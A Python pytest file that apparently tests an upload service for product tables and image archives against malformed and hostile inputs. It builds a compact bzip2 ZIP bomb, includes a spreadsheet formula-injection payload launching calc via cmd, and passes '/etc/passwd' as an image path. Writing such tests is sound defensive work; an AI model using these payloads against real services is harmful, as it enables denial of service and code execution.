    "an archive in an archive": (lambda: archive(("a.zip", archive(("7.jpg", encoded(plain()))))), ""),
    "an archive called JPEG": (lambda: archive(("7.jpg", archive(("7.jpg", encoded(plain()))))), ""),
    "encrypted": (lambda: with_flag(archive(("7.jpg", b"abc")), 0x1), "cannot be unpacked"),
    "names in no encoding": (
        lambda: with_flag(archive(("7777.jpg", b"abc")), 0x800).replace(b"7777", b"\xff\xfe\xe9\xff"),
        "cannot be unpacked",
    ),
    "cut off": (lambda: archive(("7.jpg", encoded(noise())))[:-30], "cannot be unpacked"),
    "no archive": (lambda: b"not a ZIP", "cannot be unpacked"),
    "empty": (lambda: b"", "cannot be unpacked"),
    "broken data": (
        lambda: archive(("7.jpg", PAGE)).replace(deflated(PAGE)[:4], b"\xff" * 4),
        "cannot be unpacked",
    ),
    "broken LZMA": (broken_lzma, "cannot be unpacked"),
    "a wrong sum": (
        lambda: archive(("7.jpg", b"abcdef"), method=0).replace(b"abcdef", b"abcdeg"),
        "cannot be unpacked",
    ),
    "a name that no disk holds": (lambda: archive(("7" * 300 + ".jpg", encoded(plain()))), ""),
    "a name of signs that take four bytes": (
        lambda: archive(("\U0001f4a1" * 100 + ".jpg", encoded(plain()))),
        "",
    ),
    "no entries": (lambda: archive(), ""),
}


@pytest.mark.parametrize("kind", ARCHIVES)
def test_archives_that_are_none(client: httpx.Client, worker: Worker, tmp_path: Path, kind: str) -> None:
    make, error = ARCHIVES[kind]
    before = files(tmp_path)
    job = outcome(client, worker, b"designation,imageid\nLampe,7\n", make())
    assert error in job["error"]
    assert job["state"] == ("failed" if error else "done")
    assert [one["image"] for one in predictions(client, job)] == ([] if error else [None])
    assert files(tmp_path) == before
    assert outcome(client, worker, b"designation\nLampe\n")["state"] == "done"  # the worker goes on


def test_an_archive_takes_no_more_memory_than_its_largest_picture(
    client: httpx.Client, worker: Worker
) -> None:
    # One step of this method gives as much as there is, whatever is asked for: 300 bytes of it are 400 MB.
    packer, zeros = bz2.BZ2Compressor(9), bytes(10_000_000)
    body = b"".join(packer.compress(zeros) for _ in range(40)) + packer.flush()
    hollow = archive(("7.jpg", b""), method=zipfile.ZIP_STORED)
    central = hollow.index(b"PK\x01\x02")
    local, rest = bytearray(hollow[:central]), bytearray(hollow[central:])
    sizes = struct.pack("<II", len(body), 400_000_000)
    local[8:10] = rest[10:12] = struct.pack("<H", zipfile.ZIP_BZIP2)
    local[18:26] = rest[20:28] = sizes
    end = rest.index(b"PK\x05\x06")
    rest[end + 16 : end + 20] = struct.pack("<I", len(local) + len(body))
    bomb = bytes(local) + body + bytes(rest)
    assert len(bomb) < 1000
    tracemalloc.start()
    try:
        job = outcome(client, worker, b"designation,imageid\nLampe,7\n", bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert job["state"] == "failed"
    assert peak < 5 * MAX_BYTES


TABLES: dict[str, tuple[str, bytes, str, int]] = {
    # name of the file, content, state, rows that failed
    "a NUL in a row": ("shop.csv", b"designation\nLam\0pe\nVase\n", "done", 1),
    "a NUL in a name": ("shop.csv", b"designation,\0a\nVase,1\n", "done", 0),
    "nothing but NUL": ("shop.csv", bytes(1000), "failed", 0),
    "a quote without an end": ("shop.csv", b'designation\n"' + b"a\n" * 500, "done", 1),
    "a line without an end": ("shop.csv", b"designation\n" + b"a" * 3_000_000, "done", 1),
    "names by the thousand": ("shop.csv", b"designation," + b"a," * 100_000 + b"\nLampe\n", "failed", 0),
    "formulas": ("shop.csv", b"designation,productid\n=1+1,=cmd|' /C calc'!A0\n", "done", 0),
    "ids beyond their column": ("shop.csv", b"designation,productid\nLampe," + b"1" * 300 + b"\n", "done", 0),
    "half a surrogate pair": ("shop.jsonl", b'{"designation": "\\ud800"}\n{"designation": "a"}\n', "done", 1),
    "a surrogate as a name": ("shop.jsonl", b'{"\\ud800": "a", "designation": "a"}\n', "done", 0),
    "a NUL in JSON": ("shop.jsonl", b'{"designation": "a\\u0000"}\n{"designation": "a"}\n', "done", 1),
    "deep JSON": (
        "shop.jsonl",
        b'{"designation": "a"}\n{"designation": ' + b"[" * DEEP + b"]" * DEEP + b"}\n",
        "done",
        1,
    ),
    "long numbers": ("shop.jsonl", b'{"designation": "a"}\n{"designation": ' + LONG + b"}\n", "done", 1),
    "large numbers": ("shop.jsonl", b'{"designation": 1e308}\n{"designation": 1e999}\n', "done", -1),
    "no JSON": ("shop.jsonl", b"\x00\xff\xfe", "failed", 0),
    "no Parquet": ("shop.parquet", b"PAR1" + bytes(1000) + b"PAR1", "failed", 0),
    "half a Parquet": ("shop.parquet", b"", "failed", 0),  # the content is made by the test
    "a picture called CSV": ("shop.csv", b"", "failed", 0),
    "an archive called CSV": ("shop.csv", archive(("designation", b"Lampe")), "failed", 0),
}


@pytest.mark.parametrize("kind", TABLES)
def test_tables_that_are_none(client: httpx.Client, worker: Worker, tmp_path: Path, kind: str) -> None:
    name, content, state, failed = TABLES[kind]
    if kind == "half a Parquet":
        stream = io.BytesIO()
        pl.DataFrame({"designation": [f"Lampe {i}" for i in range(1000)]}).write_parquet(stream)
        content = stream.getvalue()[:-100]
    if kind == "a picture called CSV":
        content = encoded(noise())
    before = files(tmp_path)
    job = outcome(client, worker, content, name=name)
    assert job["state"] == state, job["error"]
    if failed >= 0:
        assert job["rows_failed"] == failed
    failures = client.get(f"{JOBS}/{job['id']}/failures", params={"limit": 1000})
    assert len(failures.json()) == min(1000, job["rows_failed"])
    assert client.get(f"{JOBS}/{job['id']}/results", params={"format": "parquet"}).status_code == 200
    assert files(tmp_path) == before
    assert outcome(client, worker, b"designation\nLampe\n")["state"] == "done"  # the worker goes on


def test_names_of_tables_name_nothing_on_the_server(
    client: httpx.Client, worker: Worker, tmp_path: Path
) -> None:
    before = files(tmp_path)
    for name in NAMES:
        stem = name.replace(b".jpg", b"")
        answer = client.post(JOBS, **form(stem + b".csv", b"designation\nLampe\n", b"file"))
        if answer.status_code != 202:
            check_problem(answer, 400, 422)
            continue
        assert worker.work()
        job = client.get(f"{JOBS}/{answer.json()['id']}").json()
        assert job["state"] == "done"
        results = client.get(f"{JOBS}/{job['id']}/results")
        assert results.status_code == 200
        assert "x-mine" not in results.headers
        assert results.headers["content-disposition"].startswith("attachment; filename")
    assert files(tmp_path) == before


def test_an_error_does_not_say_where_the_server_keeps_its_files(
    client: httpx.Client, worker: Worker, tmp_path: Path
) -> None:
    for content in (b"", b"a,b\n1,2\n", b"designation\n\xff\n"):
        assert str(tmp_path) not in outcome(client, worker, content)["error"]
    job = outcome(client, worker, b"designation,image\nLampe,/etc/passwd\n,/etc/passwd\n")
    assert str(tmp_path) not in client.get(f"{JOBS}/{job['id']}/failures").text
